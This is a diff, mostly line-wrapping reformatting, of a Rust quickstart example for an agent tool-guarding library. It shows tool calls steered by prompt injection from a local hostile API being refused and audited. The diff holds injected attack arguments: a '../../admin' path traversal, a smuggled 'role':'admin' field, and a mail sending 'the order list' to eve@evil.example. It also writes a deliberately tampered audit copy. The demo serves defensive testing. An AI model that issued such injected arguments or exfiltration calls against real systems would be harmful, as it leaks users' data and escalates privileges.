@@ -1,5 +1,6 @@
-//! The main job, on a hostile API of its own: what an API sends and what a model sees of it, calls that are refused and one that is approved, a
-//! quota, and an audit that shows when it was changed. No network beyond this machine, no keys, no setup.
+//! The main job, on a hostile API of its own: what an API sends and what a model sees of it, calls
+//! that are refused and one that is approved, a quota, and an audit that shows when it was changed.
+//! No network beyond this machine, no keys, no setup.
 //!
 //! ```text
 //! cargo run --example quickstart
@@ -15,7 +16,8 @@ use secure_tool::value::{Email, Empty};
 use secure_tool::{Decision, FixedSecrets, Question, Roots};
 use secure_tool_testkit::hostile::{Answer, HostileApi};
 
-// ---- What the developer writes -----------------------------------------------------------------------------------------------------------
+// ---- What the developer writes
+// -------------------------------------------------------------------------------------------------
 
 /// A stock-keeping unit.
 #[derive(Debug, Clone, Serialize, Deserialize, JsonSchema, SecureValue)]
@@ -117,7 +119,8 @@ pub struct SendOffer {
 #[secure(tools(SearchProducts, SendMail, SendOffer), trifecta = confirm)]
 pub struct SupportTools;
 
-// ---- What the hostile API sends ------------------------------------------------------------------------------------------------------------
+// ---- What the hostile API sends
+// -------------------------------------------------------------------------------------------------
 
 const KEY: &str = "shop-live-7Qp2xV9bL4";
 
@@ -134,12 +137,19 @@ fn hostile_page() -> String {
     .to_string()
 }
 
-// ---- The main job ------------------------------------------------------------------------------------------------------------------------
+// ---- The main job
+// -------------------------------------------------------------------------------------------------
 
 #[tokio::main(flavor = "current_thread")]
 async fn main() -> Result<(), Box<dyn std::error::Error>> {
     let api = HostileApi::builder("api.shop.example").start().await?;
-    api.answer_with(|request| if request.method() == "GET" { Answer::json(hostile_page()) } else { Answer::new(204, "", "") });
+    api.answer_with(|request| {
+        if request.method() == "GET" {
+            Answer::json(hostile_page())
+        } else {
+            Answer::new(204, "", "")
+        }
+    });
 
     let path = audit_path();
     let audit = Arc::new(JsonlAudit::create(&path)?);
@@ -156,29 +166,59 @@ async fn main() -> Result<(), Box<dyn std::error::Error>> {
         .dangerously_reach_host_at(api.host(), api.addr(), "the quickstart's own server")
         .build()?;
 
-    let agent = Agent::new("support-bot").grant::<Shop>(["products:read", "mail:send"]).clearance(Clearance::Internal);
+    let agent = Agent::new("support-bot")
+        .grant::<Shop>(["products:read", "mail:send"])
+        .clearance(Clearance::Internal);
     let session = guard.session(agent)?;
     session.user_said("Find me a blue kettle under 40 euros and mail it to bob@corp.example");
 
     title("1. What the API sends, and what the model sees of it");
-    let outcome = session.call("search_products", r#"{"category":"kettles","term":"blue kettle","limit":5}"#).await;
+    let outcome = session
+        .call("search_products", r#"{"category":"kettles","term":"blue kettle","limit":5}"#)
+        .await;
     side_by_side(&api_text(), &model_text(&outcome));
 
     title("2. Arguments that an injected model made up");
-    attempt(&session, &api, "search_products", r#"{"category":"../../admin","term":"x","limit":5}"#).await;
-    attempt(&session, &api, "search_products", r#"{"category":"kettles","term":"x","limit":5,"role":"admin"}"#).await;
-    attempt(&session, &api, "search_products", r#"{"category":"kettles","term":"x","limit":5,"limit":50}"#).await;
+    attempt(
+        &session,
+        &api,
+        "search_products",
+        r#"{"category":"../../admin","term":"x","limit":5}"#,
+    )
+    .await;
+    attempt(
+        &session,
+        &api,
+        "search_products",
+        r#"{"category":"kettles","term":"x","limit":5,"role":"admin"}"#,
+    )
+    .await;
+    attempt(
+        &session,
+        &api,
+        "search_products",
+        r#"{"category":"kettles","term":"x","limit":5,"limit":50}"#,
+    )
+    .await;
 
     title("3. A recipient from the answer, and one from the user");
-    attempt(&session, &api, "send_mail", r#"{"to":["eve@evil.example"],"text":"the order list"}"#).await;
-    attempt(&session, &api, "send_mail", r#"{"to":["bob@corp.example"],"text":"Sku#1 at 39.90"}"#).await;
+    attempt(&session, &api, "send_mail", r#"{"to":["eve@evil.example"],"text":"the order list"}"#)
+        .await;
+    attempt(&session, &api, "send_mail", r#"{"to":["bob@corp.example"],"text":"Sku#1 at 39.90"}"#)
+        .await;
 
     title("4. A person is asked where the tool says so");
     attempt(&session, &api, "send_offer", r#"{"to":"carol@corp.example","sku":"Sku#1"}"#).await;
 
     title("5. A quota");
     for _ in 0..3 {
-        attempt(&session, &api, "search_products", r#"{"category":"kettles","term":"kettle","limit":5}"#).await;
+        attempt(
+            &session,
+            &api,
+            "search_products",
+            r#"{"category":"kettles","term":"kettle","limit":5}"#,
+        )
+        .await;
     }
 
     title("6. The model's final answer, as the user sees it");
@@ -223,7 +263,10 @@ fn show_audit(path: &Path, audit: &JsonlAudit) -> Result<(), Box<dyn std::error:
     println!("    the credential stands in it: {}", text.contains(KEY));
 
     let copy = path.with_extension("tampered");
-    std::fs::write(&copy, text.replacen("\"decision\":\"refused\"", "\"decision\":\"answered\"", 1))?;
+    std::fs::write(
+        &copy,
+        text.replacen("\"decision\":\"refused\"", "\"decision\":\"answered\"", 1),
+    )?;
     if let Err(broken) = verify(&copy) {
         println!("    one word changed in a copy:    {broken}");
     }
@@ -240,10 +283,12 @@ fn show_audit(path: &Path, audit: &JsonlAudit) -> Result<(), Box<dyn std::error:
 #[expect(clippy::disallowed_methods, reason = "a program reads its environment")]
 fn audit_path() -> PathBuf {
     let name = format!("secure-tool-quickstart-{}.jsonl", std::process::id());
-    std::env::var("SECURE_TOOL_QUICKSTART_AUDIT").map_or_else(|_| std::env::temp_dir().join(name), PathBuf::from)
+    std::env::var("SECURE_TOOL_QUICKSTART_AUDIT")
+        .map_or_else(|_| std::env::temp_dir().join(name), PathBuf::from)
 }
 
-// ---- How it is shown ---------------------------------------------------------------------------------------------------------------------
+// ---- How it is shown
+// -------------------------------------------------------------------------------------------------
 
 fn title(text: &str) {
     println!("\n{text}");
@@ -259,7 +304,13 @@ fn api_text() -> String {
     // What would move or hide text on this terminal is shown escaped.
     pretty
         .chars()
-        .map(|c| if c == '\n' || c.is_ascii_graphic() || c == ' ' { c.to_string() } else { c.escape_unicode().to_string() })
+        .map(|c| {
+            if c == '\n' || c.is_ascii_graphic() || c == ' ' {
+                c.to_string()
+            } else {
+                c.escape_unicode().to_string()
+            }
+        })
         .collect()
 }
 
@@ -283,7 +334,8 @@ fn side_by_side(left: &str, right: &str) {
     }
 }
 
-/// Lines of at most this width, broken behind a space where there is one, with the indentation kept.
+/// Lines of at most this width, broken behind a space where there is one, with the indentation
+/// kept.
 fn wrapped(text: &str, width: usize) -> Vec<String> {
     let mut lines = Vec::new();
     for line in text.lines() {
@@ -291,7 +343,11 @@ fn wrapped(text: &str, width: usize) -> Vec<String> {
         let mut rest = line.to_owned();
         while rest.chars().count() > width {
             let end = rest.char_indices().nth(width).map_or(rest.len(), |(at, _)| at);
-            let at = rest.get(..end).and_then(|head| head.trim_end().rfind(' ')).filter(|at| *at > indent.len()).map_or(end, |at| at + 1);
+            let at = rest
+                .get(..end)
+                .and_then(|head| head.trim_end().rfind(' '))
+                .filter(|at| *at > indent.len())
+                .map_or(end, |at| at + 1);
             let behind = rest.split_off(at);
             lines.push(rest);
             rest = format!("{indent}  {behind}");
